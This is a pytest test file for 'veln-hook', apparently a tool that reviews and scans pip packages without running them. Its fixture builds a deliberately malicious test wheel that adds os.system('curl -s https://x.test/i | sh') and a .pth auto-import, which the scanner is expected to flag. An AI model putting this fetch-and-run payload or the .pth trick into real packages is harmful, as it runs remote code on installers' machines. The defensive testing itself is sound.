"""``veln-hook review`` and ``scan --baseline`` against real indexes and a real pip: fetched, read, never run."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest

from support.builders import make_sdist, make_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from support.index_server import IndexServer

OLD, YOUNG = timedelta(days=30), timedelta(minutes=5)
GOOD = {"acme/__init__.py": "VERSION = 1\n\n\ndef f():\n    return 1\n", "acme/gone.py": "x = 1\n"}
EVIL = {
    "acme/__init__.py": GOOD["acme/__init__.py"] + "import os\nos.system('curl -s https://x.test/i | sh')\n",
    "acme_init.pth": "import acme\n",
}


@pytest.fixture
def env(shared_env):
    return shared_env


@pytest.fixture
def acme(index: IndexServer, tmp_path: Path) -> IndexServer:
    """An index with a good release, one that does not pass by itself, and a young one like it."""
    index.add(make_wheel(tmp_path, "acme", "1.0", GOOD), upload_time=OLD)
    index.add(make_wheel(tmp_path, "acme", "1.5", EVIL), upload_time=OLD)
    index.add(make_wheel(tmp_path, "acme", "2.0", EVIL, requires=["rich"]), upload_time=YOUNG)
    return index


def hook(env, /, *args, **options):
    return env.run_script("veln-hook", *args, **options)


def test_a_person_sees_facts_findings_and_changes(shared, acme, make_index, tmp_path):  # on every pip
    env, acme.html_for_pip22 = shared, True
    page = tmp_path / "review.html"
    result = hook(env, "review", "acme==2.0", "-i", acme.url, "--html", page, index=make_index())
    assert result.returncode == 0, result
    out = result.stdout
    assert out.startswith("HOLD  acme 2.0  acme-2.0-py3-none-any.whl\n")
    assert f"{acme.files['acme-2.0-py3-none-any.whl'].sha256} (as its index promises)" in out
    assert "(5 min" in out
    assert "cooling   2 h (cooling.min_age, default)" in out
    assert "acme_init.pth:1  " in out
    assert "changes  against acme 1.0, acme-1.0-py3-none-any.whl" in out, "1.5 doesn't pass by itself"
    assert "metadata + Requires-Dist: rich" in out
    assert " 7 + os.system('curl -s https://x.test/i | sh')\n" in out
    assert "^ HOLD command-download" in out
    assert "acme/gone.py  removed" in out
    order = [out.index(part) for part in ("sha256 ", "\nfindings", "\nchanges", "\napprove")]
    assert order == sorted(order)
    assert f'approve  veln-hook approve acme==2.0 --reason "..." -i {acme.url}' in out
    assert "curl -s https://x.test/i" in page.read_text()
    assert "acme" not in env.installed()
    audited = hook(env, "audit", "-q", "--json")
    assert "veln-hook" in {one["project"] for one in json.loads(audited.stdout)["results"]}


def test_json_and_the_other_baselines(env, acme):
    def told(*words):
        result = hook(env, "review", "acme==2.0", "--json", *words, index=acme)
        assert result.returncode == 0, result
        (one,) = json.loads(result.stdout)["results"]
        return one

    one = told()
    assert (one["verdict"], one["baseline"], one["candidate"]["verdict"]) == ("hold", "1.0", "hold")
    assert one["metadata"] == [{"change": "+", "field": "Requires-Dist: rich"}]
    assert any(finding["new"] for finding in one["findings"])
    assert told("--baseline", "none")["baseline"] is None
    one = told("--baseline", "1.5")
    assert one["baseline"] == "1.5"
    assert {finding["signal"] for finding in one["findings"] if finding["new"]} == {"new-dependency"}


def test_no_code_is_run_and_each_file_can_be_chosen(env, index, tmp_path, unconfined):
    marker = tmp_path / "ran"
    index.add(make_sdist(tmp_path, "acme", "1.0", marker=marker), upload_time=OLD)
    index.add(make_wheel(tmp_path, "acme", "1.0", tag="cp39-cp39-win_amd64"), upload_time=OLD)
    result = hook(env, "review", "acme==1.0", index=index, env=unconfined)
    assert result.returncode == 0, result
    assert "acme-1.0.tar.gz" in result.out
    assert "there is no release before it that passes" in result.out
    result = hook(env, "review", "acme==1.0", "--file", "acme-1.0-cp39-cp39-win_amd64.whl", index=index)
    assert "win_amd64" in result.out.splitlines()[0]
    result = hook(env, "review", "acme==1.0", "--all-files", "--json", index=index, env=unconfined)
    assert len(json.loads(result.stdout)["results"]) == 2
    assert not marker.exists()


def test_a_private_index_and_find_links(env, make_index, tmp_path):
    private = make_index(auth=("user", "secret"))
    wheel = make_wheel(tmp_path / "links", "acme", "1.0", EVIL)
    private.add(wheel, upload_time=OLD)
    result = hook(env, "review", "acme==1.0", "-i", private.auth_url, index=make_index())
    assert result.returncode == 0, result
    assert result.out.startswith("HOLD  acme 1.0")
    assert "secret" not in result.out
    result = hook(env, "review", "acme==1.0", "--no-index", "-f", tmp_path / "links", index=make_index())
    assert result.returncode == 0, result
    assert "its index promises none" in result.out
    assert "--sha256" in result.out


def test_other_bytes_than_promised_are_refused(env, acme):
    served = acme.files["acme-2.0-py3-none-any.whl"]
    served.content = b"PK other bytes"
    result = hook(env, "review", "acme==2.0", index=acme)
    assert result.returncode == 78, result
    assert "is not what its index promises" in result.stderr


@pytest.mark.slow
def test_mistakes_are_told_in_words(env, acme, tmp_path):
    for words in (
        ["acme==3.0"],
        ["nosuch==1.0"],
        ["acme"],
        ["acme==2.0", "--file", "acme-2.0.zip"],
        ["acme==2.0", "--baseline", "9"],
        ["acme==2.0", "--html", tmp_path],
        ["acme==2.0", "--html", tmp_path / "no" / "where.html"],
        ["acme==2.0", "--file", "x", "--all-files"],
    ):
        result = hook(env, "review", *words, index=acme)
        assert result.returncode == 2, result
        assert "error: " in result.stderr
        assert "Traceback" not in result.out


def test_a_scan_is_compared_with_a_release_of_the_index(env, acme, tmp_path):
    wheel = make_wheel(tmp_path / "here", "acme", "3.0", EVIL)
    assert hook(env, "scan", wheel, index=acme).returncode == 77
    result = hook(env, "scan", wheel, "--baseline", "1.5", index=acme)
    assert result.returncode == 0, result
    assert "0 new against 1.5" in result.out
    assert hook(env, "scan", wheel, "--baseline", "acme==1.0", index=acme).returncode == 77
    assert hook(env, "scan", wheel, "--baseline", "9.9", index=acme).returncode == 2
